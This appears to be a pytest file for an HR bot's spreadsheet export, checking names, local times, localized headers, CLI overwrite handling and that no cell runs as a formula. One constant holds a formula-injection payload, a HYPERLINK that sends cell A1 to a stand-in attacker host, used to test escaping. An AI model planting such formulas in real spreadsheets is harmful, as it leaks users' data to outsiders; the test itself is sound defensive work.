"""The spreadsheet export HR opens: names beside ids, words not keys, local times, numbers
where they are numbers, ids as text, and no cell that runs as a formula; on both databases."""

from __future__ import annotations

import io
from datetime import UTC, date, datetime

import pytest
from openpyxl import load_workbook

from bot.app.export import write_xlsx
from bot.cli import main
from bot.core.cycles import Cycle
from bot.core.messages import Place
from bot.wiring import Runtime
from tests.fakes import add_case

CYCLE = Cycle("2026Q4", date(2026, 10, 1), date(2026, 12, 31))
DAY = date(2026, 11, 23)
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"点我")'


def _store(runtime: Runtime) -> None:
    place = Place("dingtalk", "ding1", "cid001")
    runtime.repo.people.remember(
        {"dingtalk:0193": "王五", "dingtalk:0042": "李四"}, now=datetime(2026, 11, 1, tzinfo=UTC)
    )
    stories = ["客户凌晨两点来电，他半小时内恢复了服务", HOSTILE, "+1 帮同事整理了季度复盘"]
    for n, story in enumerate(stories):
        add_case(
            runtime.repo, place, message=f"1793586302.51811{n}", nominee="dingtalk:0193",
            nominator="dingtalk:0042" if n != 2 else "dingtalk:0077", story=story, day=DAY,
            now=datetime(2026, 11, 23, 1, 30, n, tzinfo=UTC),
        )  # fmt: skip


def _book(runtime: Runtime):  # type: ignore[no-untyped-def]
    out = io.BytesIO()
    assert write_xlsx(out, runtime, "console:boss", CYCLE) == 3
    return load_workbook(io.BytesIO(out.getvalue()))


def test_the_spreadsheet_has_names_words_local_times_and_the_totals(runtime: Runtime):
    _store(runtime)
    book = _book(runtime)

    cases, totals = book.worksheets
    assert (cases.title, totals.title) == ("案例", "每人汇总")
    header = [c.value for c in cases[1]]
    assert header[:6] == ["周期", "日期", "被提名人（ID）", "被提名人", "提名人（ID）", "提名人"]
    assert "记录时间（Asia/Shanghai）" in header
    first = {h: c.value for h, c in zip(header, cases[2], strict=True)}
    assert first["被提名人"] == "王五" and first["提名人"] == "李四"
    assert first["价值观"] == "客户第一" and first["分级"] == 1
    assert first["条目"] == runtime.rubric.criterion("customer-first:1").title_zh
    assert first["日期"] == datetime(2026, 11, 23)  # a date cell
    assert first["记录时间（Asia/Shanghai）"] == datetime(2026, 11, 23, 9, 30, 0)  # UTC+8
    assert first["消息（ID）"] == "1793586302.518110" and cases.cell(2, 13).data_type == "s"
    total_header = [c.value for c in totals[1]]
    row = {h: c.value for h, c in zip(total_header, totals[2], strict=True)}
    assert row["人员（ID）"] == "dingtalk:0193" and row["姓名"] == "王五" and row["案例数"] == 3
    assert row["客户第一：案例数"] == 3 and row["客户第一：证据上限"] == 2
    # levels 1 and 2 hold without a case (unless_nonconforming): only 3-5 lack one
    assert row["团队合作：证据上限"] == 2 and row["团队合作：尚缺案例的分级"] == "3, 4, 5"


def test_no_cell_runs_as_a_formula(runtime: Runtime):
    _store(runtime)
    book = _book(runtime)

    cells = [c for sheet in book.worksheets for row in sheet.iter_rows() for c in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.value for c in cells if isinstance(c.value, str) and c.value.startswith("=")]
    assert "'" + HOSTILE in [c.value for c in cells] and "'+1 帮同事整理了季度复盘" in [
        c.value for c in cells
    ]


def test_english_headers_with_bot_locale_en(runtime: Runtime):
    _store(runtime)
    english = Runtime(**{**runtime.__dict__, "templates": type(runtime.templates)("en")})
    out = io.BytesIO()
    write_xlsx(out, english, "console:boss", CYCLE)
    book = load_workbook(io.BytesIO(out.getvalue()))
    assert [s.title for s in book.worksheets] == ["Cases", "Totals per person"]
    assert [c.value for c in book.worksheets[0][1]][:4] == [
        "Cycle",
        "Date",
        "Nominee (id)",
        "Nominee",
    ]
    assert book.worksheets[0].cell(2, 7).value == "Customer First"


def test_the_cli_writes_the_file_refuses_to_overwrite_and_says_an_empty_cycle(
    tmp_path, sqlite_url: str, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
):
    monkeypatch.setenv("DATABASE_URL", sqlite_url)
    monkeypatch.setenv("BOT_LOCALE", "en")
    from bot.config import Settings
    from bot.wiring import opened

    target = tmp_path / "q4.xlsx"
    with opened(Settings(database_url=sqlite_url)) as rt:
        assert main(["export", "--cycle", "2026Q4", "--format", "xlsx", "--out", str(target)]) == 0
        assert "No cases in 2026Q4" in capsys.readouterr().err and not target.exists()
        _store(rt)

    assert main(["export", "--cycle", "2026Q4", "--format", "xlsx", "--out", str(target)]) == 0
    err = capsys.readouterr().err
    assert "3 cases of 2026Q4 exported from sqlite:///" in err
    assert load_workbook(target).worksheets[0].max_row == 4
    assert main(["export", "--cycle", "2026Q4", "--format", "xlsx", "--out", str(target)]) == 1
    assert "pass --force" in capsys.readouterr().err
    missing = tmp_path / "nope" / "q4.xlsx"
    assert main(["export", "--cycle", "2026Q4", "--out", str(missing)]) == 1
    assert "does not exist" in capsys.readouterr().err
    assert (
        main(["export", "--cycle", "2026Q4", "--format", "xlsx", "--out", str(target), "--force"])
        == 0
    )
    assert not list(tmp_path.glob(".*partial"))
